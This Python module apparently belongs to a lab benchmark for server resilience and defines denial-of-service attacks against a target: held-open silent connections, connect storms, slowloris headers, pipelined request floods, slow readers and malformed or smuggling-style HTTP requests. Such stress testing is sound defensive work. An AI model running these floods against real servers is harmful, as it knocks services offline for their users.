"""Attacks with TCP connections and HTTP requests that never come to a page."""

from __future__ import annotations

import asyncio
import itertools

from lab.benchmarks.abuse.target import Target
from lab.benchmarks.abuse.wire import Wire

AT_ONCE = 100
"""Connections that are opened at a time."""
HELD_AGAIN_SECONDS = 2.0
"""Pause before a silent connection that was closed is opened again."""
SLOW_CONNECTIONS = 200
SLOW_SECONDS = 0.5
"""Pause of a slow client after each byte."""
PIPELINED = 200
STORMING = 200


async def silent_1060(target: Target) -> None:
    """1,060 silent TCP connections of one address; those that the site closes are opened again."""
    target.need_open_files(2048)
    await target.ready()
    opening = asyncio.Semaphore(AT_ONCE)

    async def one(_number: int) -> None:
        async with opening:
            wire = await Wire.open(target)
        async with wire:
            await wire.receive()

    await target.repeat(1060, one, HELD_AGAIN_SECONDS)


async def connect_storm(target: Target) -> None:
    """200 tasks that connect and leave at once, without end."""
    await target.ready()

    async def one(_number: int) -> None:
        (await Wire.open(target)).close()

    await target.repeat(STORMING, one)


async def slow_headers(target: Target) -> None:
    """200 connections that send the headers of a request byte by byte (slowloris)."""
    await target.ready()
    head = f"GET / HTTP/1.1\r\nHost: {target.host}:{target.port}\r\nX-Slow: ".encode()

    async def one(_number: int) -> None:
        async with await Wire.open(target) as wire:
            await wire.send(head)
            while True:
                await wire.send(b"x")
                target.tally["bytes"] += 1
                await asyncio.sleep(SLOW_SECONDS)

    await target.repeat(SLOW_CONNECTIONS, one)


async def pipelined(target: Target) -> None:
    """Four connections that send 200 requests in one packet, again and again."""
    await target.ready()
    request = f"GET /healthz HTTP/1.1\r\nHost: {target.host}:{target.port}\r\n\r\n".encode()

    async def one(_number: int) -> None:
        async with await Wire.open(target) as wire:
            while True:
                await wire.send(request * PIPELINED)
                target.tally["requests"] += PIPELINED
                await _count_answers(wire, PIPELINED)

    await target.repeat(4, one)


async def _count_answers(wire: Wire, wanted: int) -> None:
    """Read that many answers, and count them by status."""
    data = b""
    for _ in range(wanted):
        _before, data = await wire.receive_until(b"HTTP/1.1 ", data)
        status, data = await wire.receive_until(b" ", data)
        wire.target.tally[f"HTTP {status.decode('ascii', 'replace')}"] += 1


async def slow_readers(target: Target) -> None:
    """100 connections that ask for large pages and never read them."""
    await target.ready()
    request = f"GET /huarong HTTP/1.1\r\nHost: {target.host}:{target.port}\r\n\r\n".encode()

    async def one(_number: int) -> None:
        async with await Wire.open(target, receive_buffer=4096) as wire:
            while True:
                await wire.send(request)
                target.tally["requests"] += 1
                await asyncio.sleep(0.2)

    await target.repeat(100, one)


async def malformed_requests(target: Target) -> None:
    """20 connections that send what is no request: bad lines, lengths, fields and chunks."""
    await target.ready()
    host = f"Host: {target.host}:{target.port}"
    wrong = itertools.cycle(
        f"{each}\r\n\r\n".encode("latin-1")
        for each in (
            "\x16\x03\x01\x02",
            "GET / HTTP/9.9",
            f"GET /{'a' * 20_000} HTTP/1.1\r\n{host}",
            f"GET / HTTP/1.1\r\n{host}\r\n{host}",
            f"POST / HTTP/1.1\r\n{host}\r\nContent-Length: -1",
            f"POST / HTTP/1.1\r\n{host}\r\nContent-Length: 3\r\nTransfer-Encoding: chunked",
            f"POST / HTTP/1.1\r\n{host}\r\nTransfer-Encoding: chunked\r\n\r\nxyz",
            f"GET / HTTP/1.1\r\n{host}\r\nBad Field : 1\r\n folded",
        )
    )

    async def one(_number: int) -> None:
        async with await Wire.open(target) as wire:
            await wire.send(next(wrong))
            target.tally["requests"] += 1
            await _count_answers(wire, 1)

    await target.repeat(20, one)


async def quiet(target: Target) -> None:
    """Nothing at all: the figures to compare with."""
    await target.ready()
    await asyncio.Event().wait()


ATTACKS = (
    silent_1060,
    connect_storm,
    slow_headers,
    pipelined,
    slow_readers,
    malformed_requests,
)
